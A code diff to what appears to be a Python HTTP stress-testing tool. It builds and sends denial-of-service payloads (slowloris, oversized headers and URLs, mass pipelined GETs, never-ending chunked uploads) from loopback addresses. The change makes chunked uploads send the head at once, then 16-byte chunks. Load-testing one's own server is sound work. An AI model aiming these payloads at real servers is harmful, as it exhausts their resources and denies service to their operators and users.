@@ -15,8 +15,9 @@ ATTACK is one of
   url        N connections each sending a request line with a ~1 MB URL
   pipeline   N connections each sending 1000 pipelined GETs at once and
              reading the answers slowly
-  chunked    N uploads (PUT PATH, Transfer-Encoding: chunked) whose body
-             never ends: a small chunk per connection every --interval s
+  chunked    N uploads (PUT PATH, Transfer-Encoding: chunked, the head at
+             once) whose body never ends: a 16-byte chunk per connection
+             every --interval s
   chunkedfast  the same, as fast as the server reads
 
 Attack connections come from 127.0.0.2 ... 127.0.0.(1+K) (--sources K,
@@ -75,18 +76,18 @@ def slowloris_head(a):
 
 def attack_payload(a):
     if a.attack == "slowloris":
-        return slowloris_head(a), 1
+        return slowloris_head(a), 1, 0
     if a.attack == "idle":
-        return b"", 0
+        return b"", 0, 0
     if a.attack == "headers":
         many = b"".join(b"X-H%d: v\r\n" % i for i in range(20000))
         huge = b"X-Huge: " + b"a" * (1 << 20) + b"\r\n"
-        return b"GET " + a.path.encode() + b" HTTP/1.1\r\nHost: x\r\n" + many + huge + b"\r\n", -1
+        return b"GET " + a.path.encode() + b" HTTP/1.1\r\nHost: x\r\n" + many + huge + b"\r\n", -1, 0
     if a.attack == "url":
-        return b"GET /" + b"a" * (1 << 20) + b" HTTP/1.1\r\nHost: x\r\n\r\n", -1
+        return b"GET /" + b"a" * (1 << 20) + b" HTTP/1.1\r\nHost: x\r\n\r\n", -1, 0
     if a.attack == "pipeline":
         one = b"GET " + a.path.encode() + b" HTTP/1.1\r\nHost: x\r\n\r\n"
-        return one * 1000, -1
+        return one * 1000, -1, 0
     if a.attack in ("chunked", "chunkedfast"):
         head = ("PUT %s HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n"
                 "Content-Type: application/octet-stream\r\n" % a.path)
@@ -95,12 +96,12 @@ def attack_payload(a):
         head = (head + "\r\n").encode()
         chunk = b"10\r\n" + b"PUBLIC 1000 0 x\n" + b"\r\n"
         # the head at once, then chunks: forever
-        return head + chunk * 200000, (len(chunk) if a.attack == "chunked" else -1)
+        return head + chunk * 200000, (len(chunk) if a.attack == "chunked" else -1), len(head)
     raise SystemExit("unknown attack " + a.attack)
 
 
 def run_attack(a):
-    payload, step = attack_payload(a)
+    payload, step, first = attack_payload(a)
     sel = selectors.DefaultSelector()
     conns = []
     refused = 0
@@ -185,6 +186,8 @@ def run_attack(a):
                 if step > 0 and now < c.next_send:
                     continue
                 n = step if step > 0 else len(c.out) - c.pos
+                if c.pos == 0 and first:
+                    n = first
                 try:
                     w = c.sock.send(c.out[c.pos:c.pos + n])
                     c.pos += w
